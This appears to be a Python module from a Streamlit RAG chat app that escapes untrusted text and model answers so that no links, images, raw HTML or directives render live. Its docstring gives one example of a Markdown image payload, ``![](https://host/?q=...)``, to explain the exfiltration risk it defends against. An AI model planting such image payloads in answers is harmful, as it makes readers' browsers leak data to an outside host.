"""Markdown sources for the page: untrusted text shown as text, model answers with nothing live.

Streamlit renders ``st.markdown``, captions, alerts, expander and widget labels, radio options
and progress texts as GitHub-flavoured Markdown plus its own extensions (LaTeX between ``$``,
``:color[...]`` directives). Raw HTML is escaped by Streamlit unless ``unsafe_allow_html`` is
set (only for an answer whose citations link to their sources, below), but links and images stay
live, and an image is fetched as soon as the page shows it: a document, a file name or a model
answer quoting one could make every reader's browser call an address of its choosing
(``![](https://host/?q=...)``). Hence two functions:

- ``literal(text)``: file names, chat titles, questions, error messages, source labels. The
  Markdown it returns displays exactly ``text``: every character that could start a construct
  is backslash-escaped (CommonMark lets any ASCII punctuation be escaped).
- ``answer_markdown(text)``: model answers keep emphasis, lists, headings, quotes, tables and
  code, but outside code every ``[``, ``]``, ``<`` and ``$`` is escaped, so no link, image,
  link reference, footnote, raw HTML, autolink, directive or formula can form. Citations such
  as ``[1]`` or ``[1, 2]`` stay as they are: with every other bracket escaped no reference
  definition can exist, so a bare ``[1]`` never becomes a link.

Code spans and fenced blocks are copied untouched (escapes would show inside code), so where a
code span or fence would start is decided conservatively: when in doubt the backticks are
escaped and the text is treated as prose, which costs formatting, never safety.

Streamlit's renderer goes further than CommonMark, and escapes do not stop all of it (each
case below was seen in chromium against Streamlit 1.67's own frontend):

- GFM literal autolinks (``https://host``, ``www.host``, ``name@host``) are found in the
  parsed text, after escapes and entities are decoded, so ``https\\://`` still links. The
  only thing that stops them without changing what is shown is a WORD JOINER (U+2060, an
  invisible character that is not a word character) inside the pattern: ``https⁠://``.
- ``:streamlit:`` becomes the logo and ``-> -- >= <=`` become arrows and dashes in the
  parsed text too: a word joiner breaks them the same way (in ``literal`` only: an answer
  may keep its typography).
- ``:name[...]`` directives (colours, ``:small``) and ``:material/icon:`` are read from the
  source: the colon is escaped, and for icons the slash as well (Streamlit replaces
  ``:material/`` in the raw source before parsing).

Citation links: ``answer_markdown(text, links={1: "source?chunk=…"})`` turns each cited number into
``<a href="…" target="_self">[1]</a>``, the only HTML on the page. Streamlit gives every Markdown
link ``target="_blank"`` (a new tab), and the source view must open in the same one; the element is
then rendered with HTML on. That is safe because the escapes above leave no unescaped ``<`` in the
answer outside code, so the parser finds no HTML but these anchors (tests/app/test_safe_rendering.py
parses every body to prove it); the address is built here from ids, never from the answer.

Plain-text contexts (select boxes, multiselects, table cells) take ``plain(text)``: no
escapes, which would show there as backslashes.
"""

from __future__ import annotations

import html
import re
import string
from collections.abc import Mapping

from names import clean_text

_PUNCT = frozenset(string.punctuation)

# Invisible, not a word character, not whitespace: splits a pattern without changing the text.
WORD_JOINER = "\u2060"
# Where a word joiner goes: after the scheme of a bare URL, after «www» before its dot, after
# the «@» of an address, inside the logo shortcode. Streamlit's regexes are ASCII, any case.
_AUTOLINK = re.compile(r"(?i)(https?)(?=://)|(www)(?=\.)|(@)(?=[-\w])|(:streamlit)(?=:)")
# Streamlit's typography (in parsed text, between spaces): «->» «<-» «<->» «--» «>=» «<=» «~=».
_TYPOGRAPHY = re.compile(r"(?<!\S)(<(?=->)|[-<>~](?=[->=]\s|[->=]$))")

# literal(): characters escaped wherever they stand, and markers that only count at a line start.
_LITERAL_ANYWHERE = frozenset("\\`*~[]<>$&|:")
_LINE_START_MARKER = re.compile(r"[#=+-]")
_ORDERED_MARKER = re.compile(r"(\d{1,9})([.)])(?=\s|$)")
_DELIMITER_ROW = re.compile(r"[:\s-]*-[:\s-]*")  # ":-" under a line would make it a table

# answer_markdown(): characters escaped outside code.
_ANSWER_ESCAPED = frozenset("[]<$")
_CITATION = re.compile(r"\[\d+(?: *[,;–-] *\d+)*\](?![(\[:{])")
# A citation after literal(): its brackets escaped, not followed by what would make it a link.
_ESCAPED_CITATION = re.compile(r"\\\[(\d+(?: *[,;–-] *\d+)*)\\\](?!\(|\\\[|:|\{)")
_DIRECTIVE_NAME = re.compile(r":[A-Za-z][\w-]*$")
# How a citation link starts; the class marks it as ours for the page's style and the tests.
_CITATION_ANCHOR = '<a class="rag-cite" href="'
_FENCE_OPEN = re.compile(r"(`{3,})[^`]*|(~{3,}).*")
_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*")


def literal(text: str) -> str:
    """Markdown that displays ``text`` exactly: no formatting, link, image, HTML, formula or icon."""
    lines = _lines(text)
    # Leading blanks would turn a line into a code block; the browser collapses them anyway.
    escaped = [_escape_literal_line(_defuse(line.lstrip(" \t"), typography=True)) for line in lines]
    # Two trailing spaces make each line break a real one, as it was in the text.
    return "  \n".join(escaped)


def plain(text: str) -> str:
    """Text for a plain-text context (an option, a table cell): one line, nothing invisible, no escapes."""
    return clean_text(text)


def _defuse(prose: str, typography: bool = False) -> str:
    """Word joiners where Streamlit would otherwise link an address or swap in a symbol."""
    out = _AUTOLINK.sub(lambda m: m.group() + WORD_JOINER, prose)
    return _TYPOGRAPHY.sub(lambda m: m.group() + WORD_JOINER, out) if typography else out


def answer_markdown(text: str, verbatim: bool = False, links: Mapping[int, str] | None = None) -> str:
    """A model answer as Markdown that keeps its formatting but cannot link, embed or run anything.

    ``verbatim``: the answer quotes documents (the offline provider), so it is shown exactly as
    written: «2. Срок аренды…» is a sentence of a contract, not the start of a numbered list.
    ``links``: the address of each cited number's source; those citations become links (HTML, see
    the module's docstring: render the result with HTML on when ``citation_links_in`` finds one).
    """
    if verbatim:
        # Citations stay live brackets, as in any answer; everything else displays as written.
        return _ESCAPED_CITATION.sub(lambda m: _cite(m.group(1), links), literal(text))
    out: list[str] = []
    fence: str | None = None
    previous = ""
    for line in _lines(text):
        if fence is not None:
            out.append(line)
            closing = _FENCE_CLOSE.fullmatch(line)
            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence):
                fence = None
            continue
        opening = _fence_opening(line, previous)
        if opening is not None:
            fence = opening
            out.append(line)
            continue
        out.append(_escape_answer_line(line, links))
        previous = line
    return "\n".join(out)


def _lines(text: str) -> list[str]:
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def _escape_literal_line(line: str) -> str:
    chars = []
    for i, ch in enumerate(line):
        if ch in _LITERAL_ANYWHERE or (ch == "_" and not _intraword(line, i)):
            chars.append("\\" + ch)
        else:
            chars.append(ch)
    # Streamlit swaps «:material/» in the raw source before parsing: the slash is escaped too.
    escaped = "".join(chars).replace(":material/", ":material\\/")
    if _LINE_START_MARKER.match(escaped):  # heading, list item, setext underline, rule
        return "\\" + escaped
    if _DELIMITER_ROW.fullmatch(escaped):
        return escaped.replace("-", "\\-", 1)
    ordered = _ORDERED_MARKER.match(escaped)
    if ordered:  # "2025. год" would start an ordered list at 2025
        return f"{ordered.group(1)}\\{escaped[ordered.end(1) :]}"
    return escaped


def _intraword(line: str, i: int) -> bool:
    # An underscore between two letters or digits can neither open nor close emphasis
    # (GIGACHAT_CREDENTIALS stays readable in the element's source).
    return 0 < i < len(line) - 1 and line[i - 1].isalnum() and line[i + 1].isalnum()


def _fence_opening(line: str, previous: str) -> str | None:
    # Only a fence at column 0 is surely a top-level block: an indented one may belong to a
    # list item that a later, less indented line closes, and the fence with it. After a table
    # row a fence line might be read as one more row, so a table must end with a blank line.
    match = _FENCE_OPEN.fullmatch(line)
    if match is None or "|" in previous:
        return None
    return match.group(1) or match.group(2)


def citation_links_in(body: str) -> bool:
    """Whether ``answer_markdown`` made a citation link in this body (it needs HTML on)."""
    return _CITATION_ANCHOR in body


def _cite(numbers: str, links: Mapping[int, str] | None) -> str:
    """``[1, 2]`` with each number that has a source as a same-tab link to it."""
    if not links:
        return f"[{numbers}]"
    if numbers.isdigit() and int(numbers) in links:
        return f"{_anchor(links[int(numbers)])}[{numbers}]</a>"

    def one(m: re.Match[str]) -> str:
        address = links.get(int(m.group()))
        return f"{_anchor(address)}{m.group()}</a>" if address else m.group()

    return "[" + re.sub(r"\d+", one, numbers) + "]"


def _anchor(address: str) -> str:
    return f'{_CITATION_ANCHOR}{html.escape(address, quote=True)}" target="_self">'


def _escape_answer_line(line: str, links: Mapping[int, str] | None = None) -> str:
    out: list[str] = []
    # Word joiners go after these characters, unless they fall inside a code span.
    joins = {m.end() - 1 for m in _AUTOLINK.finditer(line)}
    i, n = 0, len(line)
    while i < n:
        ch = line[i]
        if i in joins:
            out.append(ch + WORD_JOINER)
            i += 1
            continue
        icon = 1 if line.startswith(":material/", i) else 2 if line.startswith("\\:material/", i) else 0
        if icon:
            out.append("\\:material\\/")
            i += icon + len("material/")
            continue
        if ch == ":" and i + 1 < n and line[i + 1].isalpha():
            # A directive (``:red[…]``, ``:small``) is a colon and a letter of any script.
            out.append("\\:")
            i += 1
            continue
        if ch == "\\" and i + 1 < n and line[i + 1] in _PUNCT:
            out.append(line[i : i + 2])  # already escaped: keep the pair as it is
            if i + 1 in joins:  # «\@» is still an «@» in the parsed text
                out.append(WORD_JOINER)
            i += 2
            continue
        if ch == "`":
            end = i
            while end < n and line[end] == "`":
                end += 1
            close = _closing_run(line, end, end - i)
            # A code span is kept only within one line, and never with a pipe inside: in a
            # table row the pipe splits cells before code spans are found.
            if close is not None and "|" not in line[end:close]:
                out.append(line[i : close + end - i])
                i = close + end - i
            else:
                out.append("\\`" * (end - i))
                i = end
            continue
        if ch == "[":
            citation = _CITATION.match(line, i)
            if citation and not _DIRECTIVE_NAME.search(line, 0, i) and not line[:i].endswith("!"):
                out.append(_cite(citation.group()[1:-1], links))
                i = citation.end()
                continue
        out.append("\\" + ch if ch in _ANSWER_ESCAPED else ch)
        i += 1
    return "".join(out)


def _closing_run(line: str, start: int, length: int) -> int | None:
    """Index of the next run of exactly ``length`` backticks at or after ``start``."""
    i, n = start, len(line)
    while i < n:
        if line[i] != "`":
            i += 1
            continue
        end = i
        while end < n and line[end] == "`":
            end += 1
        if end - i == length:
            return i
        i = end
    return None
